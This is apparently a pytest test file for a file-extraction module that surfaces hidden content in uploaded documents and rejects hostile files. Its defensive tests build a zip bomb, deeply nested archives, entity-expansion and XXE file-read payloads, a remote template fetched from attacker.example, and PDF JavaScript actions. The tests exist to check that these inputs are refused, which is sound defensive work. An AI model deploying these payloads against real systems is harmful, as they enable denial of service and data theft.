"""Everything a stranger could find in a file is found here first, and named in words."""

import struct
import zlib

import pytest

from portal.files.extraction import extract
from tests.files import samples

pytestmark = pytest.mark.once

NOTHING_LEFT = ()


@pytest.fixture
def read(tmp_path):
    def read_(content, **limits):
        path = tmp_path / "file"
        path.write_bytes(content)
        return extract(path, **limits)

    return read_


def texts(found):
    return {part.where: part.text for part in found.parts}


@pytest.mark.duty("S2-1.13b")
def test_a_text_document_gives_up_what_its_changes_and_comments_hide(read) -> None:
    inner = (
        "<w:p><w:r><w:t>身份证号1101011990</w:t></w:r><w:r><w:t>03070118</w:t></w:r></w:p>"
        '<w:p><w:r><w:t>联系</w:t></w:r><w:del w:author="修订人"><w:r><w:delText>张三</w:delText></w:r></w:del>'
        '<w:ins w:author="修订人"><w:r><w:t>办公室</w:t></w:r></w:ins><w:r><w:t>。</w:t></w:r></w:p>'
        "<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>看不见的一段</w:t></w:r></w:p>"
        "<w:p><w:r><w:instrText> MERGEFIELD 内部编号 </w:instrText></w:r></w:p>"
    )
    comment = '<w:comment w:author="领导"><w:p><w:r><w:t>这句删掉</w:t></w:r></w:p></w:comment>'
    comments = f"<w:comments {samples.W}>{comment}</w:comments>"
    footer = f"<w:ftr {samples.W}><w:p><w:r><w:t>内部资料</w:t></w:r></w:p></w:ftr>"
    custom = '<Properties><property name="密级"><lpwstr>秘密</lpwstr></property></Properties>'
    content = samples.docx_body(
        inner, **{"word/comments.xml": comments, "word/footer1.xml": footer, "docProps/custom.xml": custom}
    )
    found = read(samples.with_parts(content, {"customXml/item1.xml": '<a b="属性里的话">数据里的话</a>'}))
    assert found.faults == NOTHING_LEFT
    assert texts(found) == {
        "正文": "身份证号110101199003070118\n联系办公室。",
        "修订中已删除的文字": "联系张三。",
        "修订中新增的文字": "办公室",
        "隐藏的文字": "看不见的一段",
        "域代码": " MERGEFIELD 内部编号 ",
        "修订和批注的作者": "修订人\n领导",
        "批注": "这句删掉",
        "页脚": "内部资料",
        "文档的自定义属性": "密级：秘密",
        "自定义的数据": "属性里的话\n数据里的话",
    }


def test_properties_name_the_author(read) -> None:
    assert texts(read(samples.docx(author="张三")))["文档属性"] == "作者：张三"


@pytest.mark.duty("S2-1.13b")
def test_a_workbook_gives_up_hidden_sheets_rows_columns_and_numbers_in_full(read) -> None:
    found = read(samples.xlsx())
    assert (found.faults, found.pages) == (NOTHING_LEFT, 2)
    assert texts(found) == {
        "工作表的名称": "名单\n工资",
        "定义的名称": "内部名称\n工资!$A$1",
        "工作表“名单”": "姓名\t单位\n看得见的人\t某局",
        "工作表“名单”里隐藏的列": "备注\n隐藏列的话",
        "工作表“名单”里隐藏的行": "隐藏行的人\t某局",
        "隐藏的工作表“工资”": "隐藏表里的数\t622202123456789",
        "批注": "单元格批注",
        "修订和批注的作者": "批注人乙",
        "文档属性": "作者：制表人甲",
    }


def test_strings_and_caches_that_no_cell_shows_are_found(read) -> None:
    leftovers = {
        "xl/pivotCache/pivotCacheRecords1.xml": '<r><s v="透视表里的人"/></r>',
        "xl/externalLinks/externalLink1.xml": "<e><v>别的文件里的数</v></e>",
        "xl/connections.xml": '<c connection="Password=不该在这里"/>',
        "xl/revisions/revisionLog1.xml": "<r><oc><is><t>改掉的字</t></is></oc></r>",
    }
    strings = "<sst><si><t>还在用的人</t></si><si><t>删掉的</t><t>人</t></si></sst>"
    cells = '<sheetData><row><c t="s"><v>0</v></c><c><v>6.22202123456789E+14</v></c></row></sheetData>'
    sheets = {"xl/sharedStrings.xml": strings, "xl/worksheets/sheet1.xml": f"<worksheet>{cells}</worksheet>"}
    found = texts(read(samples.with_parts(samples.xlsx(), leftovers | sheets)))
    assert found["工作表“名单”"] == "还在用的人\t622202123456789"
    assert found["表格里已经不显示、但还留在文件里的文字"] == "删掉的人"
    assert found["数据透视表的缓存"] == "透视表里的人"
    assert found["引用别的文件留下的数据"] == "别的文件里的数"
    assert found["数据连接"] == "Password=不该在这里"
    assert found["修订记录"] == "改掉的字"


def test_slides_are_read_in_their_order_with_notes_and_hidden_ones(read) -> None:
    found = read(samples.pptx())
    assert (found.faults, found.pages) == (NOTHING_LEFT, 2)
    assert texts(found) == {
        "第1张幻灯片": "第一页的话",
        "第1张幻灯片的备注": "演讲者备注",
        "隐藏的第2张幻灯片": "隐藏页的话",
        "批注": "页上的批注",
    }


def test_letters_of_one_line_of_an_ofd_page_belong_together(read) -> None:
    found = read(samples.ofd())
    assert (found.faults, found.pages) == (NOTHING_LEFT, 1)
    assert texts(found) == {
        "文档属性": "作者：拟稿人丙",
        "第1页": "1101011990030700118X\n第二行",
        "批注": "批注人丁\n版式批注",
    }


def test_a_pdf_gives_up_properties_notes_and_pages(read) -> None:
    info, note = b"<</Author(Zhang San)>>", b"<</Type/Annot/Subtype/Text/Contents(Remove this)/T(Li Si)>>"
    found = read(samples.pdf("First page", "Second page", objects=(info, note)))
    assert (found.faults, found.pages) == (NOTHING_LEFT, 2)
    assert texts(found) == {
        "第1页": "First page",
        "第2页": "Second page",
        "第1页的批注": "Remove this",
        "第2页的批注": "Remove this",
        "批注的作者": "Li Si\nLi Si",
        "文档属性": "作者：Zhang San",
    }


def test_an_earlier_state_of_a_pdf_is_found(read) -> None:
    """Editing programs append: what was on the page before is still in the file."""
    before = samples.pdf("Name Zhang San", objects=(b"<<>>", b"<<>>"))
    old = before.index(b"11 0 obj")
    content = b"BT /F1 12 Tf 72 700 Td (Name removed) Tj ET"
    place = len(before)
    after = before + b"11 0 obj\n<</Length %d>>stream\n" % len(content) + content + b"\nendstream\nendobj\n"
    start = len(after)
    after += b"xref\n11 1\n%010d 00000 n \ntrailer<</Size 200/Root 1 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        place, before.index(b"xref\n0 1"), start,
    )  # fmt: skip
    assert old < place
    assert texts(read(after)) == {"第1页": "Name removed", "以前保存过的版本": "Name Zhang San"}


def test_files_inside_files_are_read_and_their_names_too(read) -> None:
    inner = samples.zipped({"名单/工资表.xlsx": samples.xlsx()})
    found = texts(read(samples.zipped({"材料.zip": inner, "说明.txt": "说明一句"})))
    assert found["压缩包里的文件名"] == "材料.zip\n说明.txt"
    assert found["压缩包里的“材料.zip”：压缩包里的文件名"] == "名单/工资表.xlsx"
    sheet = "压缩包里的“材料.zip”：压缩包里的“名单/工资表.xlsx”：隐藏的工作表“工资”"
    assert found[sheet] == "隐藏表里的数\t622202123456789"


def test_where_a_picture_was_taken_is_found_also_inside_a_document(read) -> None:
    place = "31.230000，121.470000"
    found = read(samples.jpeg())
    assert (texts(found)["图片的拍摄位置"], texts(found)["图片的拍摄信息"]) == (place, "作者：拍摄人戊")
    inside = read(samples.with_parts(samples.docx(), {"word/media/image1.jpeg": samples.jpeg()}))
    assert texts(inside)["里面的图片的拍摄位置"] == place


@pytest.mark.parametrize(
    ("content", "text"),
    [
        ("姓名,电话\n石竹,1".encode("gb18030"), "姓名,电话\n石竹,1"),
        ("姓名".encode(), "姓名"),
        ("姓名".encode("utf-8-sig"), "姓名"),
        ("姓名".encode("utf-16"), "姓名"),
        ("𠮷".encode("gb18030"), "𠮷"),
    ],
)
def test_text_is_read_in_the_encodings_people_use(read, content, text) -> None:
    assert texts(read(content)) == {"正文": text}


# --- what cannot be read is said ----------------------------------------------------------------------


def picture_page():
    return samples.pdf(b"q 200 0 0 200 0 0 cm " + b"0 0 m 10 10 l S " * 10 + b"Q", objects=(b"<<>>", b"<<>>"))


@pytest.mark.parametrize(
    ("content", "fault"),
    [
        (picture_page(), "第1页只有图像，没有文字可查"),
        (samples.pdf("x", objects=(b"<<>>", b"<<>>"))[:200], "文件已经损坏，打不开"),
        (samples.jpeg(size=(800, 600)), "有1张图片，图片上的文字查不出来，要人看一遍"),
        (samples.with_parts(samples.docx(), {"word/x.dat": b"?"}), "有一个不认识的部分“word/x.dat”，没有查"),
        (
            samples.with_parts(samples.docx(), {"word/embeddings/oleObject1.bin": b"?"}),
            "有旧格式的嵌入对象，里面的内容查不出来",
        ),
        (
            samples.with_parts(samples.docx(), {"word/comments.xml": "<w:comments><w:p>"}),
            "“word/comments.xml”这一部分已经损坏，读不出来",
        ),
        (b"\xd5\xc5\xc8\xfd " * 20_000 + b"\x81\xff\xff", "文字的编码不认识，读不出来。请另存为UTF-8编码"),
    ],
)
@pytest.mark.duty("S2-1.13a")
def test_what_cannot_be_read_is_a_fault_in_words(read, content, fault) -> None:
    assert fault in read(content).faults


@pytest.mark.parametrize(
    ("parts", "refusal"),
    [
        ({"程序.exe": b"MZ\x90\x00" + b"\x00" * 64}, "看不出是什么文件，或者不是可以上传的格式"),
        ({"页面.txt": b"<script>alert(1)</script>"}, "看不出是什么文件，或者不是可以上传的格式"),
        ({"名单.pdf": b"plain words"}, "扩展名和内容不符，或者不是可以上传的格式"),
        (
            {"宏.xlsx": samples.with_parts(samples.xlsx(), {"xl/vbaProject.bin": b"x"})},
            "文件里有宏或者控件，不能上传。请另存为不带宏的格式",
        ),
    ],
)
def test_an_archive_may_hold_only_what_could_be_attached(read, parts, refusal) -> None:
    name = next(iter(parts))
    assert read(samples.zipped(parts)).refusals == (f"压缩包里的“{name}”：{refusal}",)


def test_a_document_that_fetches_its_template_is_refused(read) -> None:
    rels = (
        f'<Relationships {samples.RELS}><Relationship Id="r1" Type="{samples.OFFICE}/attachedTemplate" '
        'Target="http://attacker.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    found = read(samples.with_parts(samples.docx(), {"word/_rels/settings.xml.rels": rels}))
    assert found.refusals == ("文件打开时会从网上取内容，不能上传。请断开链接以后另存",)


def test_scripts_in_a_pdf_are_refused(read) -> None:
    script = samples.pdf("x", trailer="/OpenAction<</S/JavaScript/JS(app.alert(1))>>", objects=(b"<<>>", b"<<>>"))
    assert read(script).refusals == ("文件里有脚本或者会运行程序的动作，不能上传。请重新打印成PDF",)


# --- hostile files --------------------------------------------------------------------------------------


def bomb(size):
    """An entry of zeros, built without holding them."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed, crc = b"", 0
    for _ in range(size // 2**20):
        packed += deflate.compress(b"\0" * 2**20)
        crc = zlib.crc32(b"\0" * 2**20, crc)
    packed += deflate.flush()
    name = b"a.txt"
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0) + name
    central = struct.pack(
        "<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 33, crc, len(packed), size, len(name), 0, 0, 0, 0, 0, 0
    )
    directory = central + name
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(directory), len(local) + len(packed), 0)
    return local + packed + directory + end


def test_a_zip_bomb_is_a_fault_and_no_burden(read) -> None:
    found = read(bomb(64 * 2**20))
    assert found.faults == ("压缩得不正常，展开以后会非常大，没有全部查完",)


def test_archives_all_the_way_down_end_somewhere(read) -> None:
    content = samples.zipped({"底.txt": "到底了"})
    for _ in range(8):
        content = samples.zipped({"下一层.zip": content})
    found = read(content)
    assert "一层套一层，套得太深，没有全部查完" in found.faults[0]
    assert "到底了" not in "".join(texts(found).values())


def test_entities_are_never_expanded(read) -> None:
    laughs = '<!DOCTYPE x [<!ENTITY a "' + "哈" * 100 + '"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    found = read(samples.with_parts(samples.docx(), {"word/document.xml": laughs}))
    assert found.faults == ("“word/document.xml”这一部分已经损坏，读不出来",)
    assert "哈" not in "".join(texts(found).values())


def test_a_file_of_the_machine_is_not_read_through_an_entity(read, tmp_path) -> None:
    (tmp_path / "secret").write_text("机器上的秘密", encoding="utf-8")
    outside = f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{tmp_path}/secret">]><x>&a;</x>'
    found = read(samples.with_parts(samples.docx(), {"customXml/item1.xml": outside}))
    assert "机器上的秘密" not in "".join(texts(found).values())


def test_too_little_time_or_memory_is_a_fault(read) -> None:
    content = samples.xlsx()
    stopped = ("检查没有做完：文件太大、太复杂，或者已经损坏",)
    assert read(content, memory_megabytes=8).faults == stopped
    assert read(content, seconds=0).faults == stopped
